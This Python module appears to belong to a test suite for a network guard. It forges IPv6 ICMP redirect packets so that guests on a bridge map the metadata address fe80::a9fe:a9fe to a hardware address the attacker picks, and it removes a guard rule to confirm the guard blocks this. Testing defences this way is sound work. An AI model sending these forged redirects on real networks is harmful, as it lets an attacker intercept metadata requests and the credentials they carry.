"""A guest claims the metadata address by a redirect for another destination, whose better router the metadata address is said to be.

A redirect (RFC 4861 §4.5) tells the hardware address of its target, as an advertisement does. Gained: victims' neighbour tables have a hardware address
of the forger's choice for fe80::a9fe:a9fe. In the way: the guard looks at the target of a redirect as well as at its destination
(chain `guard_discovery_…`).
"""

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.arp_claims import believed
from attacks.lib import errors
from attacks.redirects_sent import router
from field import LOCAL, Field
from host import Host

OTHER = "2001:db8:77::1"


class Attack(attack.Attack):
    """The forger; victims may be told of routers."""

    hosts = ("address", "bridge")
    families = (6,)
    proofs = (("address", 6),)

    def prepare(self, host: Host) -> None:
        """Gives victims a router whose redirects they follow."""
        for one in host.victims:
            space.ip(f"route replace default via {router(host, 6)} dev eth0", one.name)
            space.setting("net.ipv6.conf.eth0.accept_redirects", 1, one.name)

    def attack(self, field: Field) -> None:
        """Redirects to the metadata address."""
        card, sent = wire.Wire(), 0
        # What `believed` recognizes an address by: its last byte is the number of the kind.
        field.report["kinds"] = ["a redirect for another destination"]
        source = wire.ip(router(field.host, 6))
        field.ready()
        while field.goes_on():
            for one in field.victims:
                pair = (source, wire.ip(one.local6))
                body = wire.ip(LOCAL) + wire.ip(OTHER) + b"\x02\x01" + wire.mac("52:54:ee:00:00:01")
                card.send(errors.frame((one.link, field.me.link), pair, errors.message((wire.REDIRECT, 0), pair, body), 255))
                sent += 1
            for _ in card.received(0.02):
                pass
        field.report["sent"] = sent

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks at what victims believe."""
        outcome.host_report["believed"] = believed(host, LOCAL)

    def gained(self, outcome: Outcome) -> str | None:
        """Victims that believe."""
        if not outcome.forger["sent"]:
            raise space.Failure("no redirect was sent: the attack does not work")
        if outcome.host_report["believed"]:
            return f"victims believed a redirect; they lost {outcome.lost} requests"
        return None

    def weaken(self, host: Host) -> None:
        """Lets the target be anything."""
        rules.remove(r"nd-redirect @th,64,", "netdev", "guard_discovery_.*")

    def restore(self, host: Host) -> None:
        """Victims forget."""
        for one in host.victims:
            space.call("ip", "-6", "-n", one.name, "route", "flush", "cache")
        host.heal()
